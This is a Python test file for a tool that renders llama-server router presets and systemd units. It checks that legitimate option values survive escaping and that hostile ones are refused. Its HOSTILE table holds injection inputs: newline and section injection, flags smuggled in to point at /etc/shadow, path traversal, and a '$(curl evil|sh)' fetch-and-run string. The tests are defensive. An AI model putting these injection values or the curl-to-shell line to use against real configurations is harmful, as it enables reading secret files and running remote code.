"""llama-server router services (host data router_models): the schema, the unit and the
preset rendered through one escaping path, hostile preset values refused whole and
legitimate ones kept as llama-server reads them back (common/preset.cpp of b11312)."""

from __future__ import annotations

import re

import pytest

from rigkit.hostdata import HostDataError, parse_rig
from rigkit.render import llama_server
from rigkit.render.systemd import UnsafeValue, preset_section, preset_value

A = "/srv/models/a/a-00001-of-00002.gguf"
B = "/srv/models/b/b.gguf"


def router(second: dict | None = None, **service) -> dict:
    return {
        "llama_cpp": {"ref": "b11312", "cuda": False},
        "services": [
            {
                "name": "duo",
                "model": A,
                "alias": "one",
                "router_models": [{"model": B, "alias": "two", **(second or {})}],
                **service,
            }
        ],
    }


def preset_sections(text: str) -> dict[str, dict[str, str]]:
    """The preset as llama-server's parser reads it (common/preset.cpp parse_ini_from_file):
    a value ends at ';' or '#' and loses its blanks; '[' at a line's start opens a section."""
    sections: dict[str, dict[str, str]] = {"default": {}}
    current = "default"
    for line in text.splitlines():
        line = re.split(r"[;#]", line, maxsplit=1)[0].strip()
        if not line:
            continue
        if line.startswith("["):
            current = line[1:].split("]", 1)[0].strip()
            sections[current] = {}
            continue
        key, _, value = line.partition("=")
        sections[current][key.strip()] = value.strip()
    return sections


def test_each_model_loads_with_its_own_options_and_the_default_at_startup():
    (svc,) = parse_rig(
        "h", router({"ctx": 8192, "sampling": "greedy", "extra_args": ["--no-warmup"]}, ctx=2048)
    ).services
    sections = preset_sections(llama_server.render_preset(svc, "b11312"))
    assert list(sections) == ["default", "one", "two"] and sections["default"] == {"version": "1"}
    assert sections["one"]["m"] == A and sections["one"]["c"] == "2048"
    assert sections["one"]["load-on-startup"] == "true" and "load-on-startup" not in sections["two"]
    assert sections["two"] == {
        "m": B,
        "ngl": "999",
        "c": "8192",
        "ctk": "f16",
        "ctv": "f16",
        "parallel": "1",
        "split-mode": "layer",
        "temp": "0.0",
        "top-k": "1",
        "jinja": "true",
        "metrics": "true",
        "no-warmup": "true",
    }


def test_router_unit_names_its_preset_by_content_and_reads_every_model_directory():
    (svc,) = parse_rig("h", router(sleep_idle_seconds=300, models_max=2)).services
    unit = llama_server.render_unit(svc, "/opt/rigkit/llama.cpp", build_ref="b11312")
    path = llama_server.preset_path(svc, llama_server.render_preset(svc, "b11312"))
    assert re.fullmatch(r"/etc/rigkit/llama/duo\.[0-9a-f]{16}\.ini", path)
    assert (
        f"--models-preset {path} --models-max 2 --sleep-idle-seconds 300" in unit
        and "ReadOnlyPaths=/srv/models/a\nReadOnlyPaths=/srv/models/b\n" in unit
    )
    assert " -m " not in unit and "--alias" not in unit  # each model's flags are in the preset
    (changed,) = parse_rig("h", router({"ctx": 1024})).services
    other = llama_server.preset_path(changed, llama_server.render_preset(changed, "b11312"))
    assert other != path and other in llama_server.render_unit(changed, "/opt/rigkit/llama.cpp", build_ref="b11312")


def test_manifest_lists_a_routers_models_default_first():
    import json

    rig = parse_rig("h", router(models_max=1))
    (entry,) = json.loads(llama_server.services_manifest(rig, "/opt/rigkit/llama.cpp"))["services"]
    assert entry["models"] == [{"model_id": "one", "model": A}, {"model_id": "two", "model": B}]
    assert entry["models_max"] == 1 and entry["model_id"] == "one"


LEGITIMATE = [
    ["--chat-template-kwargs", '{"enable_thinking":false}'],  # JSON with quotes and ':'
    ["--override-kv", "qwen3moe.expert_used_count=int:8"],  # '=' inside a value
    ["--chat-template", "chatml"],
    ["--reasoning-format", "deepseek"],
    ["--lora", "/srv/models/b/adapter x.gguf"],  # a space inside a value
    ["--no-warmup"],
]


@pytest.mark.parametrize("extra_args", LEGITIMATE, ids=lambda a: " ".join(a))
def test_legitimate_values_reach_the_preset_as_llama_server_reads_them(extra_args):
    (svc,) = parse_rig("h", router({"extra_args": extra_args})).services
    two = preset_sections(llama_server.render_preset(svc, "b11312"))["two"]
    key = extra_args[0].lstrip("-")
    assert two[key] == (extra_args[1] if len(extra_args) > 1 else "true")


HOSTILE = {
    "newline then a key": (["--chat-template", "chatml\nm = /etc/shadow"], "extra_args[1]"),
    "carriage return": (["--chat-template", "chatml\rm = /etc/shadow"], "extra_args[1]"),
    "section injection after a comment": (["--chat-template", "chatml ; [evil]"], "extra_args[1]"),
    "comment cuts the value": (["--chat-template", "chat#ml"], "extra_args[1]"),
    "blank the parser drops": (["--chat-template", "chatml "], "extra_args[1]"),
    "model smuggled -m": (["-m", "/etc/shadow"], "extra_args[0]"),
    "model smuggled --model": (["--model", "/etc/shadow"], "extra_args[0]"),
    "model smuggled with underscores": (["--model_url", "http://x/y.gguf"], "extra_args[0]"),
    "model as the preset's env-name key": (["LLAMA_ARG_MODEL", "/etc/shadow"], "extra_args[0]"),
    "model as the preset's short key": (["m", "/etc/shadow"], "extra_args[0]"),
    "alias": (["-a", "other"], "extra_args[0]"),
    "api key file": (["--api-key-file", "/etc/shadow"], "extra_args[0]"),
    "hf repo": (["-hf", "evil/model"], "extra_args[0]"),
    "preset-only key": (["--load-on-startup", "true"], "extra_args[0]"),
    "nested router": (["--models-preset", "/tmp/x.ini"], "extra_args[0]"),
    "models-max": (["--models-max", "9"], "extra_args[0]"),
    "a flag smuggled as a value": (["--chat-template", "--api-key"], "extra_args[1]"),
    "shell": (["--chat-template", "$(curl evil|sh)"], None),  # legal text: see below
    "traversal in a value": (["--lora", "../../etc/shadow"], None),  # legal text: see below
    "look-alike dash": (["\u2014model", "/etc/shadow"], "extra_args[0]"),
    "fullwidth semicolon": (["--chat-template", "chat\uff1bml"], "extra_args[1]"),
    "one option twice (one preset key)": (["--lora", "/a.gguf", "--lora", "/b.gguf"], "extra_args[2]"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_preset_values_are_refused_whole(name):
    extra_args, key = HOSTILE[name]
    if key is None:
        # Never run by a shell and never a path rigkit opens: llama-server reads it as the
        # option's text, exactly as written (the unit's escape keeps $ literal the same way).
        (svc,) = parse_rig("h", router({"extra_args": extra_args})).services
        two = preset_sections(llama_server.render_preset(svc, "b11312"))["two"]
        assert two[extra_args[0].lstrip("-")] == extra_args[1] and set(two) >= {"m"} and two["m"] == B
        return
    with pytest.raises(HostDataError) as err:
        parse_rig("h", router({"extra_args": extra_args}))
    assert err.value.key == f"services[0].router_models[0].{key}", err.value


@pytest.mark.parametrize(
    ("second", "key"),
    [
        ({"alias": "qwen:q8_0"}, "router_models[0].alias"),  # the router rewrites after ':'
        ({"alias": "default"}, "router_models[0].alias"),  # the preset's global section
        ({"alias": "one"}, "router_models[0].alias"),  # the default's id
        ({"alias": "two]\n[x"}, "router_models[0].alias"),
        ({"model": "/srv/models/b/b#1.gguf"}, "router_models[0].model"),
        ({"model": "/srv/models/b/b;1.gguf"}, "router_models[0].model"),
        ({"model": "/etc/b.gguf"}, "router_models[0].model"),
        ({"model": "/srv/models/../etc/b.gguf"}, "router_models[0].model"),
        ({"model": "/srv/models/b/b-00002-of-00002.gguf"}, "router_models[0].model"),
        ({"models_max": 2}, "router_models[0].models_max"),  # the router's, not a model's
        ({"router_models": []}, "router_models[0].router_models"),
        ({"port": 9000}, "router_models[0].port"),
        ({"ctx": 0}, "router_models[0].ctx"),
    ],
)
def test_a_router_models_keys_are_checked_like_a_services(second, key):
    with pytest.raises(HostDataError) as err:
        parse_rig("h", router(second))
    assert err.value.key == f"services[0].{key}", err.value


def test_router_level_keys_are_checked():
    with pytest.raises(HostDataError, match="models_max"):
        parse_rig("h", router(models_max=-1))
    with pytest.raises(HostDataError, match="sleep_idle_seconds"):
        parse_rig("h", router(sleep_idle_seconds=0))


@pytest.mark.parametrize("value", ["a;b", "a#b", " a", "a ", "a\nb", "\u00e9", ""])
def test_the_renderer_refuses_what_the_preset_cannot_hold(value):
    """Defence in depth: the template's filter refuses whatever host data let through."""
    with pytest.raises(UnsafeValue):
        preset_value(value)


@pytest.mark.parametrize("name", ["*", "default", "a:b", "a]b", "a b"])
def test_the_renderer_refuses_section_names_the_router_would_not_keep(name):
    with pytest.raises(UnsafeValue):
        preset_section(name)
